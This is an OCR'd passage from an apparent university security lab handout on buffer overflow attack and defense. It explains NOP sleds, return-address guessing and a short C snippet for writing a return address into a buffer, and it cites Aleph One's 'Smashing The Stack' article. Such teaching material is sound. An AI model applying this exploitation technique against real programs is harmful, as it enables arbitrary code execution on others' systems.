you should be able to accurately calcuate the starting point of the malicious code. Even if you cannot accurately calculate the address (for example, for remote programs), you can still guess. To improve the chance
of success, we can add a number of NOPs to the beginning of the malcious code; therefore, if we can jump
to any of these NOPs, we can eventually get to the malicious code. The following figure depicts the attack.
buffer[0] …… buffer [11]
Previous FP
Return Address
Malicious Code
buffer [0] …… buffer [11]
Previous FP
Return Address
Malicious Code
…… (many NOP’s)
(a) Jump to the malicious code (b) Improve the chance Stack’s growing direction
Storing an long integer in a buffer: In your exploit program, you might need to store an long integer (4
bytes) into an buffer starting at buffer[i]. Since each buffer space is one byte long, the integer will actually
occupy four bytes starting at buffer[i] (i.e., buffer[i] to buffer[i+3]). Because buffer and long are of differenttypes, you cannot directly assign the integer to buffer; instead you can cast the buffer+i into an long pointer,
and then assign the integer. The following code shows how to assign an long integer to a buffer starting at
char buffer[20];
long addr = 0xFFEEDD88;
long *ptr = (long *) (buffer + i);
*ptr = addr;
[1] Aleph One. Smashing The Stack For Fun And Profit. Phrack 49, Volume 7, Issue 49. Available at
[2] Smashing the Stack for Fun & Profit : Revived. Available at

PlaceholderHomework 2: Buffer Overflow Vulnerability Attack and Defense Lab
Openchat
Need help?
Can we help?